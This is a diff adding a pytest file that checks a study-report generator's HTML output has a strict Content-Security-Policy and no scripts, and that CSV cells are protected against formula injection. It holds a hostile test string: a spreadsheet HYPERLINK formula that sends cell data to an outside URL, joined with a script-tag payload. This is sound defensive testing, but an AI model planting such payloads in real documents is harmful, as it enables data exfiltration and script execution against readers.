@@ -1,0 +1,107 @@
+"""A report lets no text of a study act: not in a browser, not in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Callable
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from study.commands.app import main
+from study.pictures import heatmap_page
+from study.report.numbers import FORMULAS, to_csv
+from study.shown import visible
+from tests.study.report.studies import PARALLEL, questions_in_two_languages, study
+from trainables import storage
+
+HOSTILE = '=HYPERLINK("http://example.org/?"&A1)<script>alert(1)</script>'
+
+
+class Tags(HTMLParser):
+    """The tags of a page, in their order."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def policy(page: str) -> dict[str, list[str]]:
+    """What the page's policy allows; it must come before all that it could forbid."""
+    tags = Tags(page).found
+    [place] = [i for i, (_, a) in enumerate(tags) if a.get("http-equiv")]
+    assert not {"style", "link", "img", "script", "svg", "body"} & {tag for tag, _ in tags[:place]}
+    assert tags[place][1]["http-equiv"] == "Content-Security-Policy"
+    parts = (part.split() for part in (tags[place][1]["content"] or "").split(";"))
+    return {name: allowed for name, *allowed in parts}
+
+
+def hostile(root: Path) -> None:
+    path = root / "studies/s/plan.json"
+    plan = storage.unseal(path.read_bytes())
+    plan["question"] = HOSTILE
+    plan["hypotheses"][0] |= {"name": HOSTILE, "why": HOSTILE}
+    storage.write(path, storage.seal(plan))
+
+
+def test_the_page_has_a_policy_that_lets_it_show_its_charts_and_no_more(root: Path) -> None:
+    hostile(root)
+    assert main(["report", "s", "--root", str(root)]) == 0
+    page = (root / "reports/s/report.html").read_text(encoding="utf-8")
+    rules = policy(page)
+    assert rules["default-src"] == ["'none'"]
+    assert rules["style-src"] == ["'unsafe-inline'"]
+    assert rules["img-src"] == ["data:"]
+    assert "script-src" not in rules
+    tags = Tags(page).found
+    assert "svg" in {tag for tag, _ in tags}
+    assert not {"script", "iframe", "object", "embed", "img"} & {tag for tag, _ in tags}
+    for tag, attributes in tags:
+        assert not [name for name in attributes if name.startswith("on")]
+        assert (attributes.get("href") or "#").startswith(("#", "data:,")), tag
+    metrics = {f"map/mono/{x}": 0.5 for x in ("de", "en")} | {"map/cross/de-en": 0.25}
+    heatmap = heatmap_page(HOSTILE, metrics)
+    assert heatmap is not None
+    assert policy(heatmap)["default-src"] == ["'none'"]
+    assert "script" not in {tag for tag, _ in Tags(heatmap).found}
+
+
+def test_no_cell_of_the_csv_begins_a_formula(root: Path) -> None:
+    hostile(root)
+    assert main(["report", "s", "--root", str(root)]) == 0
+    text = (root / "reports/s/report.csv").read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert any(HOSTILE in cell for row in rows for cell in row)
+    for row in rows[1:]:
+        float(row[-1])
+        assert not [cell for cell in row[:-1] if cell.startswith(tuple(FORMULAS))]
+    assert any(row[-1].startswith("-") for row in rows[1:]), "numbers stay numbers"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
+def test_every_start_of_a_formula_is_made_inert(
+    tmp_path: Path, start: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    made = study(tmp_path, questions_in_two_languages(), {0: [PARALLEL], 0.5: [PARALLEL]})
+    lines: list[str] = []
+    real: Callable[..., str] = to_csv
+
+    def with_name(material: object) -> str:
+        answer = material.answer  # type: ignore[attr-defined]
+        for finding in answer["findings"]:
+            finding["hypothesis"] = f"{start}1+1"
+        text = real(material)
+        lines.extend(row[1] for row in csv.reader(io.StringIO(visible(text), newline="")))
+        return text
+
+    monkeypatch.setattr("study.report.numbers.to_csv", with_name)
+    made.write()
+    mine = [name for name in lines if "1+1" in name]
+    assert mine
+    assert all(name.startswith(visible(f"'{start}")) for name in mine)
